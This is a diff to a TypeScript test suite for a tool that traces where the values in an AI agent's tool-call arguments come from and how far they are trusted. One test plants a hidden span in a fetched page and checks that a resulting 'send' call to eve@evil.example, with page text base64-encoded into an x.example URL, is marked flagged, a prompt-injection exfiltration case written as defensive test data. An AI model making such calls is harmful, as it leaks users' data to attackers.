@@ -45,11 +45,11 @@ const trustClasses = async (given: unknown, classifier?: ClassifierV1) => {
 
 const CASES: readonly { title: string; payload: unknown; expected: Record<string, string> }[] = [
   { title: "the user's words", payload: ['hotel aurora', 2], expected: { '/0': 'vouched', '/1': 'vouched' } },
-  { title: "the developer's words", payload: ['desk@agency.example'], expected: { '/0': 'vouched' } },
-  { title: "a trusted tool's result", payload: ['March 4, 2026'], expected: { '/0': 'vouched' } },
+  { title: "the developer's words", payload: ['desk@agency.example'], expected: { '/0': 'own' } },
+  { title: "a trusted tool's result", payload: { date: 'March 4, 2026' }, expected: { '/date': 'vouched' } },
   { title: 'a page', payload: ['A-17'], expected: { '/0': 'open' } },
   { title: 'a flagged span', payload: ['eve@evil.example'], expected: { '/0': 'flagged' } },
-  { title: 'a flagged span after an escape in JSON', payload: ['now'], expected: { '/0': 'flagged' } },
+  { title: 'a flagged span after an escape in JSON', payload: { text: 'now' }, expected: { '/text': 'flagged' } },
   { title: "the model's own words", payload: ['Kind regards'], expected: { '/0': 'own' } },
   {
     title: 'nested values and keys',
@@ -76,13 +76,10 @@ describe('the provenance of the values of a call', () => {
     const content = `Room A-17 has a view. ${FAR} >>${hidden}<<`;
     conversation.addToolResult({ id: 'p', tool: 'fetchPage', content });
     await conversation.request();
-    const given = [
-      'eve@evil.example',
-      `https://x.example/?d=${Buffer.from('Room A-17 has a view').toString('base64')}`,
-    ];
-    const [mail, link] = (
-      await conversation.check(conversation.recordCall({ id: '1', tool: 'send', arguments: given }))
-    ).arguments;
+    const text = `https://x.example/?d=${Buffer.from('Room A-17 has a view').toString('base64')}`;
+    const given = { to: 'eve@evil.example', text };
+    const { arguments: traced } = await conversation.check({ id: '1', tool: 'send', arguments: given });
+    const [mail, link] = ['/to', '/text'].map((path) => traced.find((each) => each.path === path));
     const [place] = mail?.provenance.pieces[0]?.occurrences ?? [];
     expect(mail?.provenance.trust).toBe('flagged');
     expect(content.slice(place?.start, place?.end)).toBe(Buffer.from('eve@evil.example').toString('base64'));
@@ -176,11 +173,13 @@ describe('the provenance of the values of a call', () => {
     expect((await conversation.check(call)).arguments[0]?.provenance.trust).toBe('flagged');
   });
 
-  it('is found for two hundred thousand values', async () => {
+  it('is found for the first thousand of many values, and the others count as not read', async () => {
     const conversation = await conversationWith();
     const given = Array.from({ length: 200_000 }, (_, index) => index + 0.5);
     const call = conversation.recordCall({ id: 'c1', tool: 'sum', arguments: given });
-    expect((await conversation.check(call)).arguments).toHaveLength(200_000);
+    const { arguments: traced } = await conversation.check(call);
+    expect(traced).toHaveLength(1001);
+    expect(traced.at(-1)?.provenance).toMatchObject({ trust: 'suspect', pieces: [{ isIncomplete: true }] });
   });
 
   it('stays the same after a restart', async () => {
